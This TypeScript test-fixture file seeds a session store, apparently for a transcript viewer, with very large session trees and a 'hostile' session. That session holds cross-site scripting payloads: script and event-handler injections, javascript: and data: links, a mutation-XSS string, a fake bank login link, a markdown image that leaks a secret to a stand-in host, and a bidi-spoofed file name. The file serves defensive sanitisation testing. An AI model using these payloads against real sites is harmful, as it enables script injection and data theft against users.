import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { openSessionStore } from '@amplifier/sessions';

/** Puts sessions straight into the record of a home whose daemon is not running yet. */
export async function seedLargeRecord(
  home: string,
  sizes: { children: number; messages: number },
): Promise<void> {
  await mkdir(join(home, 'state'), { recursive: true });
  await using store = await openSessionStore(join(home, 'state/record.db'));
  await using root = await store.create({ session_id: 'large-root', name: 'A large tree' });
  await root.transition('active');
  for (let at = 0; at < sizes.children; at++) {
    await using child = await store.create({
      session_id: `large-child-${at}`,
      parent_id: at < 100 ? 'large-root' : `large-child-${at % 100}`,
      root_id: 'large-root',
      depth: at < 100 ? 1 : 2,
      agent_name: `worker-${at}`,
      tool_call_id: `call_${at}`,
    });
    await child.transition('active');
    await child.transition('completed');
  }
  await root.transition('completed');
  await using long = await store.create({ session_id: 'long', name: 'A long conversation' });
  await long.transition('active');
  for (let at = 0; at < sizes.messages; at += 1_000) {
    await long.appendMessages(
      Array.from({ length: Math.min(1_000, sizes.messages - at) }, (_, index) => ({
        role: index % 2 === 0 ? ('user' as const) : ('assistant' as const),
        content: `Message **${at + index + 1}** of a long conversation.\n\n- one\n- two\n`,
      })),
    );
  }
  await long.transition('completed');
}

const BIDI = '\u202E';

/** What a model, a page or a repository might try to do to whoever reads the transcript. */
export async function seedHostileRecord(home: string): Promise<void> {
  await using store = await openSessionStore(join(home, 'state/record.db'));
  await using hostile = await store.create({
    session_id: 'hostile',
    name: `<img src=x onerror=alert(1)>${BIDI}exe`,
  });
  await hostile.transition('active');
  const attacks = [
    '<script>window.pwned = 1</script><img src="http://elsewhere.invalid/a.png" onerror="window.pwned = 2">',
    '![leak](http://elsewhere.invalid/?q=secret) <iframe src="javascript:window.pwned=3"></iframe>',
    '[click](javascript:window.pwned=4) [data](data:text/html,<script>1</script>) <a href="vbscript:x">v</a>',
    '[bank](https://elsewhere.invalid/login) <style>body{display:none}</style><svg onload="window.pwned=5">',
    `A file named gpj.${BIDI}exe and <form action="http://elsewhere.invalid"><input autofocus onfocus="window.pwned=6"></form>`,
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=7&gt;">',
  ];
  await hostile.appendMessages([
    { role: 'user', content: attacks.join('\n\n') },
    ...attacks.map((content) => ({
      role: 'assistant' as const,
      content: [{ type: 'text' as const, text: content }],
    })),
    {
      role: 'assistant',
      content: [
        {
          type: 'tool_call',
          id: 'c',
          name: '<b>bash</b>',
          input: { command: attacks[0], [attacks[1] ?? '']: 1 },
        },
      ],
    },
    { role: 'tool', tool_call_id: 'c', content: attacks.join('') },
    { role: 'assistant', content: 'x'.repeat(10 * 1024 * 1024) },
    { role: 'assistant', content: 'The end of it.' },
  ]);
  await hostile.transition('completed');
}
